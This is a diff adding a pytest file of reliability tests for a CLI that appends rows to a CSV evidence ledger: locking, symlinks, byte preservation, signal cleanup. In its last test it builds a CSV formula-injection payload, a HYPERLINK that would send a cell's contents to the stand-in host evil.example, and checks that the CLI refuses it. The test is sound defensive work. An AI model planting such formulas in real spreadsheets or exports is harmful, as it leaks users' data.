@@ -1,0 +1,162 @@
+"""Reliability (issue #21): nothing lost, bad input refused before any lock or sampling, and
+each kind of failure its own exit code. Every test here runs in seconds: none compiles a model."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from model.cli import main
+from model.evidence import load_evidence
+
+from .conftest import ROOT
+from .test_add_evidence import ROW
+
+
+def capest(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
+    """The CLI in a process of its own, as a user or a scheduler runs it."""
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    return subprocess.run(
+        [sys.executable, "-m", "model.cli", *args],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=cwd,
+        timeout=300,
+    )
+
+
+def with_id(row_id: str, **cells: str) -> list[str]:
+    args = [*ROW]
+    args[args.index("--id") + 1] = row_id
+    for column, value in cells.items():
+        flag = f"--{column.replace('_', '-')}"
+        if flag in args:  # "--flag=value": a value may start with "-"
+            i = args.index(flag)
+            args[i : i + 2] = [f"{flag}={value}"]
+        else:
+            args.append(f"{flag}={value}")
+    return args
+
+
+# --- add-evidence ---------------------------------------------------------------------------
+
+
+def test_concurrent_add_evidence_processes_keep_every_row(case_copy):
+    """Eight processes append at once: each waits for the ledger lock, so every row lands (the
+    ledger had no lock: read, validate, replace, and the last writer dropped the others)."""
+    ids = [f"launches-concurrent-{i}" for i in range(8)]
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    procs = [
+        subprocess.Popen(
+            [sys.executable, "-m", "model.cli", "add-evidence", str(case_copy), *with_id(i)],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            env=env,
+        )
+        for i in ids
+    ]
+    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
+    for p in procs:
+        p.stdout.close()
+        p.stderr.close()
+    assert [code for code, _ in results] == [0] * len(ids), results
+    ledger = load_evidence(case_copy / "evidence.csv")
+    assert set(ids) <= set(ledger.index)
+    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
+
+
+def test_a_symlinked_ledger_gets_the_row_and_stays_a_link(case_copy):
+    real = case_copy / "ledgers" / "main.csv"
+    real.parent.mkdir()
+    (case_copy / "evidence.csv").rename(real)
+    (case_copy / "evidence.csv").symlink_to(Path("ledgers") / "main.csv")
+    assert main(["add-evidence", str(case_copy), *ROW]) == 0
+    assert (case_copy / "evidence.csv").is_symlink()
+    assert "launches-new-2025-03" in load_evidence(real).index
+
+
+def test_add_evidence_keeps_mode_line_endings_and_bom(case_copy):
+    ledger = case_copy / "evidence.csv"
+    before = b"\xef\xbb\xbf" + ledger.read_bytes().replace(b"\n", b"\r\n")
+    ledger.write_bytes(before)
+    ledger.chmod(0o640)
+    assert main(["add-evidence", str(case_copy), *ROW]) == 0
+    after = ledger.read_bytes()
+    assert after.startswith(before)  # not one byte of the old rows rewritten
+    added = after[len(before) :]
+    assert added.startswith(b"launches-new-2025-03,") and added.endswith(b"\r\n")
+    assert added.count(b"\n") == 1
+    assert oct(ledger.stat().st_mode & 0o777) == oct(0o640)
+    assert "launches-new-2025-03" in load_evidence(ledger).index
+
+
+def test_add_evidence_leaves_no_candidate_file_on_any_exit(case_copy):
+    """An exit during validation (Ctrl-C, SIGTERM unwinds the same way) removes the candidate;
+    one left by a SIGKILL is removed by the next append, which holds the lock."""
+    from model.evidence import append_row
+
+    ledger = case_copy / "evidence.csv"
+    before = ledger.read_bytes()
+
+    def interrupted(candidate):
+        raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        append_row(ledger, {"id": "x"}, check=interrupted)
+    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
+    (case_copy / ".evidence.csv.add-99999.tmp").write_text("left by a killed process")
+    assert main(["add-evidence", str(case_copy), *ROW]) == 0
+    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
+    assert ledger.read_bytes().startswith(before)
+
+
+def test_sigterm_during_add_evidence_leaves_nothing(case_copy):
+    """A real process stopped by SIGTERM while it validates: no candidate, ledger unchanged."""
+    import signal
+    import time
+
+    ledger = case_copy / "evidence.csv"
+    before = ledger.read_bytes()
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    # Validation is made to wait (a check that sleeps) so the signal lands inside it.
+    code = (
+        "import sys, time, model.case as c; from model.cli import main; orig = c.load_case\n"
+        "def slow(*a, **k):\n"
+        "    if k.get('evidence'): print('validating', flush=True); time.sleep(60)\n"
+        "    return orig(*a, **k)\n"
+        "import model; model.load_case = slow\n"
+        "sys.exit(main(sys.argv[1:]))\n"
+    )
+    proc = subprocess.Popen(
+        [sys.executable, "-c", code, "add-evidence", str(case_copy), *ROW],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        env=env,
+        text=True,
+    )
+    assert proc.stdout.readline().strip() == "validating"
+    assert any(p.name.endswith(".tmp") for p in case_copy.iterdir())
+    proc.send_signal(signal.SIGTERM)
+    assert proc.wait(timeout=30) == 128 + signal.SIGTERM
+    proc.stdout.close()
+    proc.stderr.close()
+    time.sleep(0.1)
+    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
+    assert ledger.read_bytes() == before
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_spreadsheet_formula_prefixes_are_refused(case_copy, caplog, prefix):
+    ledger = case_copy / "evidence.csv"
+    before = ledger.read_bytes()
+    args = with_id("launches-formula", quote=f'{prefix}HYPERLINK("https://evil.example/?"&A1)')
+    assert main(["add-evidence", str(case_copy), *args]) == 2
+    assert f"{ledger}, new row, column 'quote': starts with '{prefix}'" in caplog.text
+    assert "spreadsheet would run as a formula" in caplog.text
+    assert ledger.read_bytes() == before
